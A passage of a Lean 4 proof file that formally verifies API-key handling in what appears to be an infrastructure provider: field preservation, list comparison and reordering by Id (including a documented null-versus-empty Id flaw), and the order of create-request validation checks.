      ∧ (initializeApiKeyWithPlanAndId plan id).AllowedCIDRs = plan.AllowedCIDRs
      ∧ (initializeApiKeyWithPlanAndId plan id).OrganizationId = plan.OrganizationId
      ∧ (initializeApiKeyWithPlanAndId plan id).Description = plan.Description
      ∧ (initializeApiKeyWithPlanAndId plan id).Name = plan.Name
      ∧ (initializeApiKeyWithPlanAndId plan id).OrganizationRoles = plan.OrganizationRoles
      ∧ (initializeApiKeyWithPlanAndId plan id).Resources = plan.Resources := by
  obtain ⟨expiry, rotate, cidrs, org, audit, description, oldId, name, secret, token, roles,
    resources⟩ := plan
  cases secret <;> cases rotate <;>
    simp [initializeApiKeyWithPlanAndId, Value.IsNull, Value.IsUnknown]

/-- C25: `retainResourcesIfOrgOwner req res` is `res` with `Resources` replaced
by those of `req` when the known text `organizationOwner` is one of the roles
of `res`, and is `res` itself otherwise; the roles of `req` play no part, and so
no other field of `res` changes in either case. -/
theorem ApiKey_retainResourcesIfOrgOwner_frame (apiKeyReq apiKeyRes : providerschema.ApiKey) :
    ApiKey.retainResourcesIfOrgOwner apiKeyReq apiKeyRes
        = (if Value.known "organizationOwner" ∈ Slice.toList apiKeyRes.OrganizationRoles then
            { apiKeyRes with Resources := apiKeyReq.Resources }
           else apiKeyRes)
      ∧ (ApiKey.retainResourcesIfOrgOwner apiKeyReq apiKeyRes).Expiry = apiKeyRes.Expiry
      ∧ (ApiKey.retainResourcesIfOrgOwner apiKeyReq apiKeyRes).Rotate = apiKeyRes.Rotate
      ∧ (ApiKey.retainResourcesIfOrgOwner apiKeyReq apiKeyRes).AllowedCIDRs
          = apiKeyRes.AllowedCIDRs
      ∧ (ApiKey.retainResourcesIfOrgOwner apiKeyReq apiKeyRes).OrganizationId
          = apiKeyRes.OrganizationId
      ∧ (ApiKey.retainResourcesIfOrgOwner apiKeyReq apiKeyRes).Audit = apiKeyRes.Audit
      ∧ (ApiKey.retainResourcesIfOrgOwner apiKeyReq apiKeyRes).Description
          = apiKeyRes.Description
      ∧ (ApiKey.retainResourcesIfOrgOwner apiKeyReq apiKeyRes).Id = apiKeyRes.Id
      ∧ (ApiKey.retainResourcesIfOrgOwner apiKeyReq apiKeyRes).Name = apiKeyRes.Name
      ∧ (ApiKey.retainResourcesIfOrgOwner apiKeyReq apiKeyRes).Secret = apiKeyRes.Secret
      ∧ (ApiKey.retainResourcesIfOrgOwner apiKeyReq apiKeyRes).Token = apiKeyRes.Token
      ∧ (ApiKey.retainResourcesIfOrgOwner apiKeyReq apiKeyRes).OrganizationRoles
          = apiKeyRes.OrganizationRoles := by
  have hrun : ApiKey.retainResourcesIfOrgOwner apiKeyReq apiKeyRes
      = (if Value.known "organizationOwner" ∈ Slice.toList apiKeyRes.OrganizationRoles then
          { apiKeyRes with Resources := apiKeyReq.Resources }
         else apiKeyRes) := by
    unfold ApiKey.retainResourcesIfOrgOwner
    simp only [ApiKey.isOrgOwner_loop, Bool.false_or, decide_eq_true_eq]
  refine ⟨hrun, ?_⟩
  rw [hrun]
  by_cases howner : Value.known "organizationOwner" ∈ Slice.toList apiKeyRes.OrganizationRoles
  · rw [if_pos howner]
    exact ⟨rfl, rfl, rfl, rfl, rfl, rfl, rfl, rfl, rfl, rfl, rfl⟩
  · rw [if_neg howner]
    exact ⟨rfl, rfl, rfl, rfl, rfl, rfl, rfl, rfl, rfl, rfl, rfl⟩

end resources

/-! ### `AreEqual` and `OrderList2` on lists without repetition -/

namespace providerschema

open basetypes

/-- The keys of `set1` after the first loop of `AreEqual`, when the keys already
stored followed by the elements still to store are pairwise distinct: all of
them, in order. -/
theorem AreEqual_set1_of_nodup {T : Type} [DecidableEq T] (rest : List T) :
    ∀ stored : List T, (stored ++ rest).Nodup →
      rest.foldl (fun set1 element => if element ∈ set1 then set1 else set1 ++ [element]) stored
        = stored ++ rest := by
  induction rest with
  | nil => intro stored _; simp
  | cons x xs ih =>
    intro stored hnodup
    have hx : x ∉ stored := by
      intro hmem
      have h := List.nodup_append.mp hnodup
      exact h.2.2 hmem (List.mem_cons_self x xs)
    rw [List.foldl_cons, if_neg hx, ih (stored ++ [x]) (by simpa using hnodup)]
    simp

/-- `AreEqual` when the first array has no repeated element: the arrays have
the same length and every element of the second is one of the first. -/
theorem AreEqual_of_nodup {T : Type} [DecidableEq T] (array1 array2 : List T)
    (h1 : array1.Nodup) :
    AreEqual array1 array2 = true
      ↔ array1.length = array2.length ∧ ∀ element ∈ array2, element ∈ array1 := by
  unfold AreEqual
  have hset := AreEqual_set1_of_nodup array1 [] (by simpa using h1)
  rw [List.nil_append] at hset
  simp only [hset]
  by_cases hlen : array1.length = array2.length
  · simp [hlen]
  · simp [hlen]

/-- C23: for arrays without repeated elements, `AreEqual array1 array2` is true
exactly when `array2` is a permutation of `array1`, and the answer does not
depend on the order of the two arguments. -/
theorem AreEqual_iff_perm_of_nodup {T : Type} [DecidableEq T] (array1 array2 : List T)
    (h1 : array1.Nodup) (h2 : array2.Nodup) :
    (AreEqual array1 array2 = true ↔ List.Perm array2 array1)
      ∧ AreEqual array1 array2 = AreEqual array2 array1 := by
  have hiff : ∀ (a b : List T), a.Nodup → b.Nodup →
      (AreEqual a b = true ↔ List.Perm b a) := by
    intro a b ha hb
    rw [AreEqual_of_nodup a b ha]
    constructor
    · rintro ⟨hlen, hsub⟩
      exact (List.subperm_of_subset hb hsub).perm_of_length_le (le_of_eq hlen)
    · intro hperm
      exact ⟨hperm.length_eq.symm, fun element hmem => hperm.subset hmem⟩
  refine ⟨hiff array1 array2 h1 h2, ?_⟩
  rw [Bool.eq_iff_iff, hiff array1 array2 h1 h2, hiff array2 array1 h2 h1]
  exact List.perm_comm

/-- C23, on the role lists `a, b, c` and `c, a, b`, and on `a, b` and `a, c`. -/
theorem AreEqual_iff_perm_of_nodup_witness :
    ((AreEqual ["a", "b", "c"] ["c", "a", "b"] = true
          ↔ List.Perm ["c", "a", "b"] ["a", "b", "c"])
        ∧ AreEqual ["a", "b", "c"] ["c", "a", "b"] = AreEqual ["c", "a", "b"] ["a", "b", "c"])
      ∧ AreEqual ["a", "b", "c"] ["c", "a", "b"] = true
      ∧ ((AreEqual ["a", "b"] ["a", "c"] = true ↔ List.Perm ["a", "c"] ["a", "b"])
        ∧ AreEqual ["a", "b"] ["a", "c"] = AreEqual ["a", "c"] ["a", "b"])
      ∧ AreEqual ["a", "b"] ["a", "c"] = false :=
  ⟨AreEqual_iff_perm_of_nodup ["a", "b", "c"] ["c", "a", "b"] (by decide) (by decide),
    by decide,
    AreEqual_iff_perm_of_nodup ["a", "b"] ["a", "c"] (by decide) (by decide),
    by decide⟩

/-- C24 (the claim as stated fails): in the list of an item with a null `Id` and
an item with the known `Id` `""` the `Id`s are pairwise distinct, and taking it
for both `list1` and `list2` every `Id` of `list1` occurs in `list2`; yet
`OrderList2` returns the second item twice, so that the first item returned
does not have the `Id` of `list1[0]` and the result is no permutation of
`list2`: both `Id`s are looked up as the text `""`. -/
theorem OrderList2_confuses_null_and_empty_id :
    ([demo.nullIdItem, demo.emptyIdItem].map (fun item => item.Id)).Nodup
      ∧ (∀ item1 ∈ [demo.nullIdItem, demo.emptyIdItem],
          ∃ item2 ∈ [demo.nullIdItem, demo.emptyIdItem], item2.Id = item1.Id)
      ∧ OrderList2 (some [demo.nullIdItem, demo.emptyIdItem])
          (some [demo.nullIdItem, demo.emptyIdItem])
        = (some [demo.emptyIdItem, demo.emptyIdItem], none)
      ∧ demo.emptyIdItem.Id ≠ demo.nullIdItem.Id
      ∧ ¬ List.Perm [demo.emptyIdItem, demo.emptyIdItem] [demo.nullIdItem, demo.emptyIdItem]
      ∧ ValueString demo.nullIdItem.Id = ValueString demo.emptyIdItem.Id := by
  decide

/-- C24 (amended): the id of an item is the text `ValueString item.Id`, as the
code compares it: the known text of `Id`, and `""` for a null or unknown `Id`.
For lists of equal length in which the ids of `list2` are pairwise distinct and
the id of every item of `list1` is the id of an item of `list2`, `OrderList2`
returns no error and a list as long as `list1` whose i-th item is the item of
`list2` with the id of `list1[i]`; when the ids of `list1` are pairwise
distinct too, that list is a permutation of `list2`. -/
theorem OrderList2_looks_up_each_id (list1 list2 : Slice ApiKeyResourcesItems)
    (hlen : (Slice.toList list1).length = (Slice.toList list2).length)
    (hdistinct2 : ((Slice.toList list2).map (fun item => ValueString item.Id)).Nodup)
    (hoccurs : ∀ item1 ∈ Slice.toList list1, ∃ item2 ∈ Slice.toList list2,
      ValueString item2.Id = ValueString item1.Id) :
    ∃ result, OrderList2 list1 list2 = (some result, none)
      ∧ result.length = (Slice.toList list1).length
      ∧ (∀ (i : Nat) (item1 : ApiKeyResourcesItems), (Slice.toList list1)[i]? = some item1 →
          ∃ item2, result[i]? = some item2 ∧ item2 ∈ Slice.toList list2
            ∧ ValueString item2.Id = ValueString item1.Id)
      ∧ (((Slice.toList list1).map (fun item => ValueString item.Id)).Nodup →
          List.Perm result (Slice.toList list2)) := by
  have hfind : ∀ item2 ∈ Slice.toList list2,
      ((Slice.toList list2).foldl
        (fun idToItem item => Function.update idToItem (ValueString item.Id) item)
        (fun _ => ApiKeyResourcesItems.zero)) (ValueString item2.Id) = item2 :=
    foldl_update_of_mem (fun item => ValueString item.Id) (Slice.toList list2) _ hdistinct2
  refine ⟨_, OrderList2_of_length_eq list1 list2 hlen, List.length_map _ _, ?_, ?_⟩
  · intro i item1 hget
    obtain ⟨item2, hmem2, hid⟩ := hoccurs item1 (List.mem_iff_getElem?.mpr ⟨i, hget⟩)
    refine ⟨item2, ?_, hmem2, hid⟩
    rw [List.getElem?_map, hget, Option.map_some', ← hid, hfind item2 hmem2]
  · intro hdistinct1
    have hsubset : (Slice.toList list1).map (fun item => ValueString item.Id)
        ⊆ (Slice.toList list2).map (fun item => ValueString item.Id) := by
      intro k hk
      obtain ⟨item1, hmem1, rfl⟩ := List.mem_map.mp hk
      obtain ⟨item2, hmem2, hid⟩ := hoccurs item1 hmem1
      exact List.mem_map.mpr ⟨item2, hmem2, hid⟩
    have hperm : List.Perm ((Slice.toList list1).map (fun item => ValueString item.Id))
        ((Slice.toList list2).map (fun item => ValueString item.Id)) :=
      (List.subperm_of_subset hdistinct1 hsubset).perm_of_length_le (by simp [hlen])
    have hmapped := hperm.map ((Slice.toList list2).foldl
      (fun idToItem item => Function.update idToItem (ValueString item.Id) item)
      (fun _ => ApiKeyResourcesItems.zero))
    rw [List.map_map, List.map_map] at hmapped
    have hback : (Slice.toList list2).map
        (((Slice.toList list2).foldl
          (fun idToItem item => Function.update idToItem (ValueString item.Id) item)
          (fun _ => ApiKeyResourcesItems.zero)) ∘ fun item => ValueString item.Id)
        = Slice.toList list2 := by
      conv_rhs => rw [← List.map_id (Slice.toList list2)]
      exact List.map_congr_left (fun item2 hmem => hfind item2 hmem)
    rw [hback] at hmapped
    exact hmapped

/-- C24 (amended), on a plan with the ids `c, a, b` and a response with the ids
`a, b, c`: the response's items come back in the plan's order. -/
theorem OrderList2_looks_up_each_id_witness :
    ∃ result, OrderList2 (some demo.planResources) (some demo.responseResources)
        = (some result, none)
      ∧ result.length = 3
      ∧ (∀ (i : Nat) (item1 : ApiKeyResourcesItems), demo.planResources[i]? = some item1 →
          ∃ item2, result[i]? = some item2 ∧ item2 ∈ demo.responseResources
            ∧ ValueString item2.Id = ValueString item1.Id)
      ∧ List.Perm result demo.responseResources :=
  let ⟨result, hrun, hlength, hitems, hperm⟩ :=
    OrderList2_looks_up_each_id (some demo.planResources) (some demo.responseResources) rfl
      (by decide) (by decide)
  ⟨result, hrun, hlength, hitems, hperm (by decide)⟩

end providerschema

/-! ### Validation of a create request -/

namespace basetypes

/-- `IsNull()` holds of the null value only. -/
theorem Value.IsNull_iff {α : Type} (v : Value α) : v.IsNull = true ↔ v = Value.null := by
  cases v <;> simp [Value.IsNull]

/-- The test `!v.IsNull() && !v.IsUnknown()` holds of the known values only. -/
theorem Value.set_iff_known {α : Type} (v : Value α) :
    (!v.IsNull && !v.IsUnknown) = true ↔ ∃ x, v = Value.known x := by
  cases v <;> simp [Value.IsNull, Value.IsUnknown]

/-- The test of `validateApiKeyAttributesTrimmed` on one attribute holds of the
known values that `check` rejects. -/
theorem Value.set_and_rejected_iff (v : StringValue) (check : String → Bool) :
    ((!v.IsNull && !v.IsUnknown) && !check (ValueString v)) = true
      ↔ ∃ x, v = Value.known x ∧ check x = false := by
  cases v <;> simp [Value.IsNull, Value.IsUnknown, ValueString]

end basetypes

namespace resources

open basetypes

/-- `ApiKey.Create` when the plan decodes without error and
`validateCreateApiKeyRequest` rejects it: an error is added and nothing else
happens. -/
theorem ApiKey.Create_refused {σ R A : Type} (deps : WriteDeps R A)
    (a : providerschema.Data σ api.Payload) (req : resource.CreateRequest R)
    (resp : resource.CreateResponse R) (s : σ)
    (hfail : ApiKey.validateCreateApiKeyRequest deps (req.Plan.Get deps.codec).1 ≠ none) :
    (ApiKey.Create deps a req resp s).2 = s
      ∧ (ApiKey.Create deps a req resp s).1.State = resp.State := by
  obtain ⟨err, herr⟩ := Option.ne_none_iff_exists'.mp hfail
  unfold ApiKey.Create
  by_cases hE : diag.HasError
      (diag.Append resp.Diagnostics (req.Plan.Get deps.codec).2) = true
  · simp only [hE, if_true, and_self]
  · simp only [hE, herr, Bool.false_eq_true, if_false, and_self]

end resources

namespace resources

open basetypes

/-- `validateApiKeyAttributesTrimmed`, check by check. -/
theorem ApiKey.validateApiKeyAttributesTrimmed_cases {R A : Type} (deps : WriteDeps R A)
    (plan : providerschema.ApiKey) :
    ((∃ v, plan.Name = Value.known v ∧ deps.IsTrimmed v = false) →
        ApiKey.validateApiKeyAttributesTrimmed deps plan
          = some (errors.New ("name " ++ deps.ErrNotTrimmed.Error)))
      ∧ ((¬ ∃ v, plan.Name = Value.known v ∧ deps.IsTrimmed v = false) →
          (∃ v, plan.Description = Value.known v ∧ deps.IsTrimmed v = false) →
          ApiKey.validateApiKeyAttributesTrimmed deps plan
            = some (errors.New ("description " ++ deps.ErrNotTrimmed.Error)))
      ∧ ((¬ ∃ v, plan.Name = Value.known v ∧ deps.IsTrimmed v = false) →
          (¬ ∃ v, plan.Description = Value.known v ∧ deps.IsTrimmed v = false) →
          ApiKey.validateApiKeyAttributesTrimmed deps plan = none) := by
  unfold ApiKey.validateApiKeyAttributesTrimmed
  refine ⟨fun h => ?_, fun h1 h2 => ?_, fun h1 h2 => ?_⟩
  · rw [if_pos ((Value.set_and_rejected_iff _ _).mpr h)]
  · rw [if_neg (mt (Value.set_and_rejected_iff _ _).mp h1),
      if_pos ((Value.set_and_rejected_iff _ _).mpr h2)]
  · rw [if_neg (mt (Value.set_and_rejected_iff _ _).mp h1),
      if_neg (mt (Value.set_and_rejected_iff _ _).mp h2)]

/-- `validateCreateApiKeyRequest`, check by check. -/
theorem ApiKey.validateCreateApiKeyRequest_cases {R A : Type} (deps : WriteDeps R A)
    (plan : providerschema.ApiKey) :
    (plan.OrganizationId = Value.null →
        ApiKey.validateCreateApiKeyRequest deps plan
          = some (errors.New "organizationId cannot be empty"))
      ∧ (plan.OrganizationId ≠ Value.null → plan.Name = Value.null →
          ApiKey.validateCreateApiKeyRequest deps plan
            = some (errors.New "name cannot be empty"))
      ∧ (plan.OrganizationId ≠ Value.null → plan.Name ≠ Value.null →
          plan.OrganizationRoles = none →
          ApiKey.validateCreateApiKeyRequest deps plan
            = some (errors.New "organizationRoles cannot be empty"))
      ∧ (plan.OrganizationId ≠ Value.null → plan.Name ≠ Value.null →
          plan.OrganizationRoles ≠ none → (∃ v, plan.Rotate = Value.known v) →
          ApiKey.validateCreateApiKeyRequest deps plan
            = some (errors.New "rotate value should not be set"))
      ∧ (plan.OrganizationId ≠ Value.null → plan.Name ≠ Value.null →
          plan.OrganizationRoles ≠ none → (¬ ∃ v, plan.Rotate = Value.known v) →
          (∃ v, plan.Secret = Value.known v) →
          ApiKey.validateCreateApiKeyRequest deps plan
            = some (errors.New "secret should not be set while create operation"))
      ∧ (plan.OrganizationId ≠ Value.null → plan.Name ≠ Value.null →
          plan.OrganizationRoles ≠ none → (¬ ∃ v, plan.Rotate = Value.known v) →
          (¬ ∃ v, plan.Secret = Value.known v) →
          ApiKey.validateCreateApiKeyRequest deps plan
            = ApiKey.validateApiKeyAttributesTrimmed deps plan) := by
  unfold ApiKey.validateCreateApiKeyRequest
  simp only [Value.IsNull_iff, Option.isNone_iff_eq_none]
  refine ⟨fun h1 => ?_, fun h1 h2 => ?_, fun h1 h2 h3 => ?_, fun h1 h2 h3 h4 => ?_,
    fun h1 h2 h3 h4 h5 => ?_, fun h1 h2 h3 h4 h5 => ?_⟩
  · rw [if_pos h1]
  · rw [if_neg h1, if_pos h2]
  · rw [if_neg h1, if_neg h2, if_pos h3]
  · rw [if_neg h1, if_neg h2, if_neg h3, if_pos ((Value.set_iff_known _).mpr h4)]
  · rw [if_neg h1, if_neg h2, if_neg h3, if_neg (mt (Value.set_iff_known _).mp h4),
      if_pos ((Value.set_iff_known _).mpr h5)]
  · rw [if_neg h1, if_neg h2, if_neg h3, if_neg (mt (Value.set_iff_known _).mp h4),
      if_neg (mt (Value.set_iff_known _).mp h5)]

/-- C21: `validateCreateApiKeyRequest` returns an error exactly when
`OrganizationId` is null, or `Name` is null, or `OrganizationRoles` is nil, or
`Rotate` is known, or `Secret` is known, or a known `Name` or `Description` is
not trimmed; the first of these checks that fails, in this order, decides the
error; and when the decoded plan fails the validation, `ApiKey.Create` leaves
the executor's state and its journal of invocations as they were. -/
theorem ApiKey_validateCreateApiKeyRequest_checks {σ R A : Type} (deps : WriteDeps R A)
    (a : providerschema.Data σ api.Payload) (plan : providerschema.ApiKey)
    (req : resource.CreateRequest R) (resp : resource.CreateResponse R) (s : σ)
    (hfail : ApiKey.validateCreateApiKeyRequest deps (req.Plan.Get deps.codec).1 ≠ none) :
    (ApiKey.validateCreateApiKeyRequest deps plan ≠ none
        ↔ (plan.OrganizationId = Value.null ∨ plan.Name = Value.null
          ∨ plan.OrganizationRoles = none
          ∨ (∃ v, plan.Rotate = Value.known v) ∨ (∃ v, plan.Secret = Value.known v)
          ∨ (∃ v, plan.Name = Value.known v ∧ deps.IsTrimmed v = false)
          ∨ (∃ v, plan.Description = Value.known v ∧ deps.IsTrimmed v = false)))
      ∧ (plan.OrganizationId = Value.null →
          ApiKey.validateCreateApiKeyRequest deps plan
            = some (errors.New "organizationId cannot be empty"))
      ∧ (plan.OrganizationId ≠ Value.null → plan.Name = Value.null →
          ApiKey.validateCreateApiKeyRequest deps plan
            = some (errors.New "name cannot be empty"))
      ∧ (plan.OrganizationId ≠ Value.null → plan.Name ≠ Value.null →
          plan.OrganizationRoles = none →
          ApiKey.validateCreateApiKeyRequest deps plan
            = some (errors.New "organizationRoles cannot be empty"))
      ∧ (plan.OrganizationId ≠ Value.null → plan.Name ≠ Value.null →
          plan.OrganizationRoles ≠ none → (∃ v, plan.Rotate = Value.known v) →
          ApiKey.validateCreateApiKeyRequest deps plan
            = some (errors.New "rotate value should not be set"))
      ∧ (plan.OrganizationId ≠ Value.null → plan.Name ≠ Value.null →
          plan.OrganizationRoles ≠ none → (¬ ∃ v, plan.Rotate = Value.known v) →
          (∃ v, plan.Secret = Value.known v) →
          ApiKey.validateCreateApiKeyRequest deps plan
            = some (errors.New "secret should not be set while create operation"))
      ∧ (plan.OrganizationId ≠ Value.null → plan.Name ≠ Value.null →
          plan.OrganizationRoles ≠ none → (¬ ∃ v, plan.Rotate = Value.known v) →
          (¬ ∃ v, plan.Secret = Value.known v) →
          (∃ v, plan.Name = Value.known v ∧ deps.IsTrimmed v = false) →
          ApiKey.validateCreateApiKeyRequest deps plan
            = some (errors.New ("name " ++ deps.ErrNotTrimmed.Error)))
      ∧ (plan.OrganizationId ≠ Value.null → plan.Name ≠ Value.null →
          plan.OrganizationRoles ≠ none → (¬ ∃ v, plan.Rotate = Value.known v) →
          (¬ ∃ v, plan.Secret = Value.known v) →
          (¬ ∃ v, plan.Name = Value.known v ∧ deps.IsTrimmed v = false) →
          (∃ v, plan.Description = Value.known v ∧ deps.IsTrimmed v = false) →
          ApiKey.validateCreateApiKeyRequest deps plan
            = some (errors.New ("description " ++ deps.ErrNotTrimmed.Error)))
      ∧ (ApiKey.Create deps a.logged req resp (s, [])).2 = (s, []) := by
  obtain ⟨c1, c2, c3, c4, c5, c6⟩ := ApiKey.validateCreateApiKeyRequest_cases deps plan
  obtain ⟨t1, t2, t3⟩ := ApiKey.validateApiKeyAttributesTrimmed_cases deps plan
  refine ⟨?_, c1, c2, c3, c4, c5,
    fun h1 h2 h3 h4 h5 h6 => (c6 h1 h2 h3 h4 h5).trans (t1 h6),
    fun h1 h2 h3 h4 h5 h6 h7 => (c6 h1 h2 h3 h4 h5).trans (t2 h6 h7),
    (ApiKey.Create_refused deps a.logged req resp (s, []) hfail).1⟩
  by_cases h1 : plan.OrganizationId = Value.null
  · rw [c1 h1]; exact ⟨fun _ => Or.inl h1, fun _ => Option.some_ne_none _⟩
  by_cases h2 : plan.Name = Value.null
  · rw [c2 h1 h2]; exact ⟨fun _ => Or.inr (Or.inl h2), fun _ => Option.some_ne_none _⟩
  by_cases h3 : plan.OrganizationRoles = none
  · rw [c3 h1 h2 h3]
    exact ⟨fun _ => Or.inr (Or.inr (Or.inl h3)), fun _ => Option.some_ne_none _⟩
  by_cases h4 : ∃ v, plan.Rotate = Value.known v
  · rw [c4 h1 h2 h3 h4]
    exact ⟨fun _ => Or.inr (Or.inr (Or.inr (Or.inl h4))), fun _ => Option.some_ne_none _⟩
  by_cases h5 : ∃ v, plan.Secret = Value.known v
  · rw [c5 h1 h2 h3 h4 h5]
    exact ⟨fun _ => Or.inr (Or.inr (Or.inr (Or.inr (Or.inl h5)))),
      fun _ => Option.some_ne_none _⟩
  by_cases h6 : ∃ v, plan.Name = Value.known v ∧ deps.IsTrimmed v = false
  · rw [c6 h1 h2 h3 h4 h5, t1 h6]
    exact ⟨fun _ => Or.inr (Or.inr (Or.inr (Or.inr (Or.inr (Or.inl h6))))),
      fun _ => Option.some_ne_none _⟩
  by_cases h7 : ∃ v, plan.Description = Value.known v ∧ deps.IsTrimmed v = false
  · rw [c6 h1 h2 h3 h4 h5, t2 h6 h7]
    exact ⟨fun _ => Or.inr (Or.inr (Or.inr (Or.inr (Or.inr (Or.inr h7))))),
      fun _ => Option.some_ne_none _⟩
  rw [c6 h1 h2 h3 h4 h5, t3 h6 h7]
  refine ⟨fun h => absurd rfl h, fun h => ?_⟩
  rcases h with h | h | h | h | h | h | h
  · exact absurd h h1
  · exact absurd h h2
  · exact absurd h h3
  · exact absurd h h4
  · exact absurd h h5
  · exact absurd h h6
  · exact absurd h h7

/-- C21, on a plan that sets `secret`: the validation answers with the error of
the secret check, and `Create` leaves the scripted service and the journal
untouched. -/
theorem ApiKey_validateCreateApiKeyRequest_checks_witness :
    ApiKey.validateCreateApiKeyRequest demo.writeDeps demo.apiKeyPlanWithSecret
        = some (errors.New "secret should not be set while create operation")
      ∧ ApiKey.validateCreateApiKeyRequest demo.writeDeps demo.apiKeyPlan = none
      ∧ (ApiKey.Create demo.writeDeps demo.dataAny.logged
          ⟨⟨none⟩, ⟨some demo.apiKeyPlanWithSecret⟩⟩ ⟨⟨none⟩, []⟩ ([.ok ⟨[1]⟩], [])).2
        = ([.ok ⟨[1]⟩], []) :=
  ⟨rfl, rfl,
    (ApiKey_validateCreateApiKeyRequest_checks demo.writeDeps demo.dataAny
      demo.apiKeyPlanWithSecret ⟨⟨none⟩, ⟨some demo.apiKeyPlanWithSecret⟩⟩ ⟨⟨none⟩, []⟩
      [.ok ⟨[1]⟩] (by decide)).2.2.2.2.2.2.2.2⟩

end resources
